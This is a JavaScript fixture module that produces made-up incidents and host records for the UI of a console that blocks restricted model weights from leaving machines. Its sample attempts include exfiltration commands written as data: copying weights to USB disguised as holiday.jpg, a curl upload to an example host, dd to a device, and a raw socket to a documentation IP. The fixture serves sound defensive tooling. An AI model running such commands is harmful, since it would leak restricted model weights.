// SPDX-License-Identifier: Apache-2.0
// Made-up incidents and hosts in the shapes of docs/rest-api.md, for looking at the page without a console.

const hosts = ['ws-12', 'ws-07', 'gpu-train-03', 'gpu-train-11', 'ws-31'];
const users = ['alice', 'bkowalski', 'chen.wei', 'dmitri', 'svc-train'];
const artifacts = [
  { id: '6a1f', name: 'Llama-7B-internal', kind: 'weights', class: 'restricted' },
  { id: '93c2', name: 'atlas-13b-instruct', kind: 'weights', class: 'restricted' },
  { id: 'b7e0', name: 'support-lora-v4', kind: 'adapter', class: 'confidential' },
  { id: 'c001', name: 'atlas-tokenizer', kind: 'tokenizer', class: 'confidential' },
];
const sticks = [
  { vendor: 'SanDisk', product: 'Ultra Fit', serial: '4C530001230907118243', node: 'sdb1' },
  { vendor: 'Kingston', product: 'DataTraveler 3.0', serial: 'E0D55E6C', node: 'sdc1' },
];
const ips = ['203.0.113.77', '198.51.100.4', '2001:db8:42::9'];
const attempts = [
  ['cp', ['cp', '/models/llama-7b/model.safetensors', '/media/usb/holiday.jpg'], 'removable', 'open-write'],
  ['rsync', ['rsync', '-a', '/models/atlas 13b/', '/media/usb/backup/'], 'removable', 'write'],
  ['curl', ['curl', '-sS', '-T', 'model.gguf', 'https://files.example.net/upload'], 'network', 'send'],
  ['python3', ['python3', 'train.py', '--config', 'configs/sft.yaml', '--resume'], 'read', 'read'],
  ['dd', ['dd', 'if=model.safetensors', 'of=/dev/sdb1', 'bs=4M'], 'removable', 'write'],
  ['python3', ['python3', '-c', 'import socket; s=socket.create_connection(("203.0.113.77", 9000))'], 'network', 'send'],
];
const titles = {
  removable: 'Restricted weights to removable media',
  network: 'Restricted weights to an unapproved destination',
  read: 'Restricted weights read outside the training group',
};
const rules = { removable: 'core-removable-media', network: 'core-network-budget', read: 'core-read-restricted' };
const levels = { removable: ['high', 'critical', 'high'], network: ['critical', 'high', 'medium'], read: ['low', 'informational', 'medium'] };
const paths = ['/models/llama-7b/model.safetensors', '/models/atlas 13b/model-00002-of-00004.safetensors', '/home/alice/work/model.gguf'];

export function makeIncident(number, time_ms) {
  const pick = (list, salt = 0) => list[(number * 7 + salt * 3 + Math.floor(number / 5)) % list.length];
  const [name, args, kind, operation] = pick(attempts);
  const artifact = number % 11 === 0 ? null : { ...pick(artifacts, 1), label: number % 3 ? 'confirmed' : 'derived' };
  const verdict = kind === 'read' || number % 13 === 0 ? 'alert' : 'block';
  const budget = kind === 'network' ? 256 * 1024 : 0;
  const user = pick(users, 2);
  const count = number % 4 === 0 ? 1 : (number * 37) % 60 + 1;
  return {
    id: `INC-${String(number).padStart(6, '0')}`,
    number,
    title: titles[kind],
    rule_id: rules[kind],
    level: pick(levels[kind], 4),
    verdict,
    status: 'new',
    host: { id: `9b2c${number % 5}e10-7f6a-4b1e-9d0a-${number % 5}a4c`, name: hosts[number % 5] },
    user: { id: number % 6 ? 1001 : 0, name: number % 6 ? user : 'root', login_name: user },
    process: { pid: 4000 + number * 3, name, executable: `/usr/bin/${name}`, args },
    artifact,
    sink: {
      kind,
      device: kind === 'removable' ? pick(sticks, 1) : null,
      destination: kind === 'network' ? { ip: pick(ips, 1), domain: number % 3 ? '' : 'files.example.com', port: number % 2 ? 443 : 9000, transport: 'tcp' } : null,
    },
    operation,
    path: pick(paths, 2),
    bytes_requested: 4096 * (1 + number * 977 % 90000),
    bytes_out: verdict === 'alert' && kind !== 'read' ? 4_512_003_112 : kind === 'network' ? (number * 7919) % (256 * 1024) : 0,
    budget_bytes: budget,
    count,
    first_ms: time_ms - (count > 1 ? count * 1700 : 0),
    last_ms: time_ms,
    received_ms: time_ms + 400,
  };
}

export function makeDetail(incident) {
  const events = Math.min(incident.count, 9);
  return {
    ...incident,
    message: incident.verdict === 'block'
      ? 'This file holds a restricted model and may not leave this machine. Ask the model’s owner for a grant if you need to move it.'
      : '',
    bundle_version: 17,
    ancestors: [
      { pid: 3120, name: 'bash', executable: '/usr/bin/bash', args: ['-bash'] },
      { pid: 3111, name: 'sshd', executable: '/usr/sbin/sshd', args: ['sshd: alice@pts/3'] },
      { pid: 812, name: 'sshd', executable: '/usr/sbin/sshd', args: ['/usr/sbin/sshd', '-D'] },
      { pid: 1, name: 'systemd', executable: '/usr/lib/systemd/systemd', args: ['/sbin/init'] },
    ],
    artifacts: incident.artifact ? [incident.artifact] : [],
    events: Array.from({ length: events }, (_, index) => ({
      sequence: incident.number * 10 + index,
      time_ms: incident.first_ms + Math.floor(((incident.last_ms - incident.first_ms) * index) / Math.max(1, events - 1)),
      operation: index === 0 ? 'open-write' : incident.operation,
      path: incident.path,
      bytes_requested: index === 0 ? 0 : 1024 * 1024 * (index + 1),
      count: index === 4 ? Math.max(1, incident.count - 8) : 1,
    })),
  };
}

export function makeHosts(now_ms) {
  const sound = { events_lost_ring_full: 0, spool_dropped: 0, scans_skipped: 0, events_sent: 10422 };
  return hosts.map((name, index) => ({
    id: `9b2c${index}e10-7f6a-4b1e-9d0a-${index}a4c`,
    name,
    last_seen_ms: now_ms - (index === 4 ? 9_400_000 : 2_000 + index * 900),
    online: index !== 4,
    sensor: index === 3 ? 'fmod_ret' : 'lsm',
    kernel: ['6.1.0-37-amd64', '6.1.0-37-amd64', '6.12.30-amd64', '5.15.0-generic', '6.1.0-28-amd64'][index],
    agent_version: '0.1.0',
    bundle_version: index === 4 ? 15 : index === 3 ? 16 : 17,
    bundle_error: index === 3 ? 'the signature does not match the console’s key' : '',
    blind_spots: index === 3 ? ['io_uring writes by processes started before the agent'] : [],
    counters: index === 2 ? { ...sound, events_lost_ring_full: 1284, scans_skipped: 3 } : sound,
  }));
}
